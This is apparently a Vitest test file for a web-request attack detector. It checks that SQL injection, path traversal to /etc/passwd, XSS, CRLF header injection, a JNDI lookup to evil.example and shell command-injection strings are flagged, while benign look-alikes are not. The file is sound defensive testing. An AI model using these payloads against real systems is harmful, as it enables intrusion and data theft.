/**
 * The request-content grammar checks against real attack strings (OWASP testing guide, PayloadsAllTheThings,
 * sqlmap and nikto probes, as they appear URL-encoded in access-log query strings) and benign values that
 * look a little like them (names with apostrophes, searches, tokens, JSON, encoded URLs and UTF-8).
 */
import { describe, expect, it } from 'vitest';
import {
  decodeContent,
  hitLabel,
  inspectContent,
} from '../../../pipelines/detect/request-content/grammar.js';

const label = (raw: string): string | undefined => {
  const h = inspectContent(raw, true);
  return h === undefined ? undefined : `${hitLabel(h)}${h.strong ? '' : ' (weak)'}`;
};

describe('decoding as a server would', () => {
  it('undoes one, two and three layers of percent-encoding and + as space', () => {
    expect(decodeContent('%2e%2e%2f', true)).toEqual({ text: '../', layers: 1 });
    expect(decodeContent('%252e%252e%252f', true)).toEqual({ text: '../', layers: 2 });
    expect(decodeContent('%25252e%25252e%25252f', true).text).toBe('../');
    expect(decodeContent('a+b', true).text).toBe('a b');
    expect(decodeContent('a+b', false).text).toBe('a+b');
  });
  it('reads overlong UTF-8 and %u forms of dot and slash, and leaves bad escapes alone', () => {
    expect(decodeContent('..%c0%af..%c0%afetc', true).text).toBe('../../etc');
    expect(decodeContent('%u002e%u002e%u2215', true).text).toBe('..\u2215');
    expect(decodeContent('100%zz%', true).text).toBe('100%zz%');
    expect(decodeContent('Jam%F3n', true).text).toBe('Jam\xf3n');
  });
});

describe('strong hits: one request is evidence', () => {
  it.each([
    ["1' OR '1'='1", 'sql:tautology'],
    ['1%27%20OR%20%271%27%3D%271', 'sql:tautology'],
    ["admin'--", 'sql:comment'],
    ["admin'+or+1=1--", 'sql:tautology'],
    ['1+or+1%3D1', 'sql:tautology'],
    ['" or ""="', 'sql:tautology'],
    ["') or ('a'='a", 'sql:tautology'],
    ["x' AND 1=1 #", 'sql:tautology'],
    ['-1 UNION SELECT username, password FROM users', 'sql:union'],
    ['1+UNION+ALL+SELECT+NULL%2CNULL%2CNULL--', 'sql:union'],
    ['1/**/union/**/select/**/1,2,3', 'sql:union'],
    ['1 order by 5--', 'sql:comment'],
    ["x'; DROP TABLE users; --", 'sql:stacked_query'],
    ['%27%3B+DROP+TABLE+usuarios%3B+SELECT+*+FROM+datos+WHERE+nombre+LIKE+%27%25', 'sql:stacked_query'],
    ['1 AND SLEEP(5)', 'sql:time_delay'],
    ["1'; WAITFOR DELAY '0:0:5'--", 'sql:comment'],
    ['1 and extractvalue(1,concat(0x7e,version()))', 'sql:schema_probe'],
    ['1 AND 1=2 UNION SELECT table_name FROM information_schema.tables', 'sql:union'],
    ['../../../../etc/passwd', 'traversal:dot_dot_slash'],
    ['..%2f..%2f..%2fetc%2fpasswd', 'traversal:dot_dot_slash'],
    ['%252e%252e%252f%252e%252e%252fetc%252fpasswd', 'traversal:dot_dot_slash'],
    ['..%c0%af..%c0%afwindows%c0%afwin.ini', 'traversal:dot_dot_slash'],
    ['..\\..\\..\\boot.ini', 'traversal:dot_dot_slash'],
    ['/etc/passwd', 'traversal:sensitive_file'],
    ['file:///etc/shadow', 'traversal:sensitive_file'],
    ['report.pdf%00.jpg', 'null_byte:nul'],
    ['<script>alert(1)</script>', 'xss:script_tag'],
    ['%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', 'xss:script_tag'],
    ['%253Cscript%253Ealert(1)%253C/script%253E', 'xss:script_tag'],
    ['"><img src=x onerror=alert(1)>', 'xss:event_handler'],
    ['<svg/onload=alert(1)>', 'xss:event_handler'],
    ['" onmouseover="alert(1)', 'xss:event_handler'],
    ['javascript:alert(1)', 'xss:javascript_uri'],
    ['<iframe src=//evil.example>', 'xss:active_tag'],
    ['en%0d%0aSet-Cookie:+session=evil', 'crlf:header_injection'],
    ['${jndi:ldap://evil.example/a}', 'command:jndi_lookup'],
    ['127.0.0.1;cat /etc/passwd', 'traversal:sensitive_file'],
    ['127.0.0.1 | whoami', 'command:shell'],
    ['$(id)', 'command:shell'],
  ])('%s → %s', (raw, expected) => {
    expect(label(raw)).toBe(expected);
  });

  it('finds traversal and script tags in a path (no + decoding there)', () => {
    expect(inspectContent('/static/..%2f..%2f..%2fetc/passwd', false)).toMatchObject({
      family: 'traversal',
      strong: true,
    });
    expect(inspectContent('/search/%3Cscript%3E', false)).toMatchObject({ family: 'xss', strong: true });
    expect(inspectContent('/c++/books', false)).toBeUndefined();
  });
});

describe('weak hits: ordinary in some fields, evidence only where the model finds them unusual', () => {
  it.each([
    ["O'Brien", 'quote:quote (weak)'],
    ['%22exact+phrase%22', 'quote:quote (weak)'],
    ["it's+a+select+few", 'sql:keyword (weak)'],
    ['<b>bold</b>', 'markup:tag (weak)'],
    ['x'.repeat(1500) + 'y', 'overlong:value (weak)'],
    ['abc%01%02def', 'binary:control_chars (weak)'],
  ])('%s → %s', (raw, expected) => {
    expect(label(raw)).toBe(expected);
  });
});

describe('benign values: no hit', () => {
  it.each([
    'shoes',
    '83121',
    '550e8400-e29b-41d4-a716-446655440000',
    '2026-12-02T04:21:30Z',
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
    'dGhpcyBpcyBhIGJhc2U2NCB0b2tlbg%3D%3D',
    '%7B%22filters%22%3A%7B%22size%22%3A%5B%22M%22%2C%22L%22%5D%2C%22price%22%3A%7B%22lt%22%3A50%7D%7D%7D',
    'https%3A%2F%2Fshop.example.com%2Fcart%3Fitem%3D12%2520blue',
    '%E6%97%A5%E6%9C%AC%E8%AA%9E',
    'Jam%F3n+Ib%E9rico',
    'caf%C3%A9+cr%C3%A8me',
    'A%F1adir+al+carrito',
    'price+%3E+10+and+size+%3C+12',
    'select+a+size',
    'rock+and+roll',
    'tom+%26+jerry',
    'a-b_c.d~e',
    '1.2.3',
  ])('%s', (raw) => {
    expect(label(raw)).toBeUndefined();
  });
});
